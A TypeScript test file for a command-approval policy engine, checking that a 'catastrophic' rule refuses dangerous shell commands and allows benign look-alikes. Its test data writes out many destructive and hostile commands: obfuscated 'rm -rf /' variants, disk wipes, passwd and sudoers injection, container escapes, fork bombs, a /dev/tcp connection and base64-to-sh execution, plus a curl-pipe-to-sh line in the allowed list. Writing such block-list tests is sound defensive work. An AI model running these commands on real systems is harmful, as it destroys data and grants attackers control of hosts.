import { describe, expect, it } from 'vitest';
import type { Host } from '../../src/hosts/host.ts';
import { decidingMatch } from '../../src/policy/evaluate.ts';
import { Policy } from '../../src/policy/policy.ts';
import { aCaller, anInventory } from '../fixtures/callers.ts';
import { hostId } from '../fixtures/sshd.ts';

const web = hostId('web-1');
const policy = new Policy(anInventory([{ id: web, enabled: true } as Host]));
const decide = (command: string) => policy.evaluate(aCaller(), [{ kind: 'run_command', host: web, command }]);

describe('what nobody may approve', () => {
  it.each([
    'rm -rf /',
    'rm -rf /*',
    'rm -r -f -- /',
    'rm --recur --force //',
    'sudo rm -rf /usr',
    'rm -rf /etc/..',
    'rm -rf ~',
    'rm -rf ~/*',
    'rm -rf "$HOME"/',
    'rm -rf ${HOME}/*',
    'rm -fr /home/alice',
    'rm -rf /home/*',
    'rm -rf /{etc,usr}',
    'rm -rf /e*',
    'rm -rf /[a-z]*',
    'rm -rf --no-preserve-root x',
    'cd /; rm -rf etc',
    'rm -rf *; cd /',
    'd=/; rm -rf "$d"',
    'd=/; e=$d; rm -rf $e*',
    'for d in /etc /usr; do rm -rf "$d"; done',
    'r""m -rf /',
    "$'rm' -rf /",
    '\\rm -rf /',
    '/bin/rm -rf /',
    '{rm,-rf,/}',
    'bash -c "rm -rf /"',
    "bash <<'E'\nrm -rf /\nE",
    'echo $(rm -rf /)',
    'true || { rm -rf /; }',
    'eval rm -rf /',
    'ssh web rm -rf /',
    'timeout 5 nice busybox rm -rf /',
    'echo x | xargs rm -rf /',
    'find / -delete',
    'find / -xdev -exec rm -rf {} +',
    'chmod -R 777 /',
    'chown -R app: /etc',
    'mv /etc /tmp',
    'mkfs.ext4 /dev/sdb1',
    'wipefs -a /dev/sda',
    'sudo dd if=/dev/zero of=/dev/sda bs=1M',
    'cat x > /dev/sda',
    'echo x | sudo tee /dev/nvme0n1',
    'cp x /dev/sdb',
    'shred /dev/sda',
    'nvme format /dev/nvme0',
    'cryptsetup luksFormat /dev/sdb',
    'echo "a:x:0:0::/:/bin/sh" >> /etc/passwd',
    'echo "a ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/a',
    'cd /etc && cat x > shadow',
    'sed -i s/a/b/ /etc/shadow',
    'chmod u+s /tmp/x',
    'chmod 4755 /tmp/x',
    'install -m 4755 sh /tmp/x',
    'echo c > /proc/sysrq-trigger',
    "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
    'docker run -it --rm -v /:/host alpine',
    'docker run --mount type=bind,source=/,target=/host alpine',
    'nsenter -t 1 -m sh',
    'kill -9 -1',
    'kill -9 1',
    ':(){ :|:& };:',
    'bomb() { bomb | bomb & }; bomb',
    'exec 3<>/dev/tcp/192.0.2.1/443',
    'echo cm0= | base64 -d | sh',
    'eval "$(base64 -d x)"',
  ])('is refused, with its reason: %s', (command) => {
    const match = decidingMatch(decide(command));
    expect(match).toMatchObject({ decision: 'deny', rule: 'builtin:catastrophic', code: 'denied_by_policy' });
    expect(match?.justification).toMatch(
      /^Refused, and nobody can approve it: .+\.$|^Refused, and nobody can approve it: .+/,
    );
  });

  it.each([
    'rm -rf /tmp/x',
    'rm -rf ~/build "$HOME/.cache/x"',
    'cd /srv/app && rm -rf dist node_modules/*',
    'rm -rf "$dir"',
    'rm -rf ./*',
    'rm -rf /var/lib/app/cache /usr/local/app',
    'find /var/log -name "*.gz" -delete',
    'find / -name core -delete',
    'chmod -R u=rwX,go=rX /srv/app',
    'chown -R www-data: /var/www',
    'mv /etc/nginx/a /etc/nginx/b',
    'mkfs.ext4 disk.img',
    'fdisk -l /dev/sda; parted /dev/sda print; wipefs /dev/sda',
    'sudo dd if=/dev/sda of=/backup.img',
    'ls > /dev/null 2>/dev/stderr',
    'cat /etc/passwd; getent shadow root',
    'sudo tee /etc/nginx/conf.d/x.conf < x',
    'chmod 0755 x; chmod g+w,u+x x',
    'docker run -d -v /srv:/data -v /:/host:ro --privileged exporter',
    'nsenter -t 4242 -n ss -tan',
    'kill -9 4242; kill -HUP 1; kill -0 1; kill -15 1234 11',
    'f() { ls | cat; }; f | f',
    'base64 -d x > y; gunzip -c x.sql.gz | psql db',
    'curl -fsS https://example.org/i.sh | sh',
    "cat > /tmp/notes <<'E'\nrm -rf /\nE",
    "echo 'rm -rf /'; grep -r 'mkfs.ext4 /dev/sda' /etc",
    'if [ -d /x ]; then ls ((; fi',
  ])('is not: %s', (command) => {
    expect(decide(command).decision).toBe('allow');
  });
});
